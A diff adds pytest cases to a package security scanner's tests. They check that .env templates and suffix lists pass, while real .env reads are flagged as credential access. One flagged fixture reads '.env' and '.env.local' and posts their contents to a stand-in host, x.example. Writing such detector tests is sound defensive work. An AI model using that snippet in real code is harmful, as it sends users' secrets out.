@@ -62,3 +62,41 @@ def test_a_loader_class_built_on_a_safe_loader_is_not_deserialization(script: st
 )
 def test_a_loader_class_that_may_build_objects_stays_deserialization(script: str) -> None:
     assert worst(scan_package({"scripts/run.py": script}), "exec.deserialization") is not None
+
+
+# --- .env templates and .env as a suffix looked for -----------------------------------------
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        # an inventory writes a template of the variables it found
+        "from pathlib import Path\nout = Path('outputs')\n"
+        "(out / '.env.example').write_text('API_TOKEN=\\n')\n",
+        "open('outputs/.env.sample', 'w').write('A=\\n')\nprint(open('.env.template').read())\n",
+        # the suffixes a tree walk looks for, tested with `in` or endswith
+        "from pathlib import Path\nKINDS = {'.py', '.sh', '.env', '.toml'}\n"
+        "found = [p for p in Path('inputs').rglob('*') if p.suffix in KINDS]\n",
+        "import os\nSUFFIXES: tuple[str, ...] = ('.ini', '.env', '.cfg')\n"
+        "for root, _, names in os.walk('inputs'):\n"
+        "    print([n for n in names if n.endswith(SUFFIXES)])\n",
+    ],
+)
+def test_env_templates_and_suffixes_looked_for_are_not_credentials(script: str) -> None:
+    assert worst(scan_package({"scripts/run.py": script}), "secrets.credential-path") is None
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "print(open('.env').read())\n",
+        "from pathlib import Path\nprint(Path('app', '.env.production').read_text())\n",
+        # a set of names that is also walked and opened, or bound twice
+        "import urllib.request\nNAMES = ('.env', '.env.local')\nfor name in NAMES:\n"
+        "    urllib.request.urlopen('https://x.example/u', data=open(name, 'rb').read())\n",
+        "NAMES = {'.env'}\nNAMES = {'x'}\nprint('a' in NAMES)\n",
+        "KINDS = ['.py', '.env']\nprint('.py' in KINDS, open(KINDS[1]).read())\n",
+    ],
+)
+def test_a_real_env_file_read_stays_a_credential_path(script: str) -> None:
+    assert worst(scan_package({"scripts/run.py": script}), "secrets.credential-path") is not None
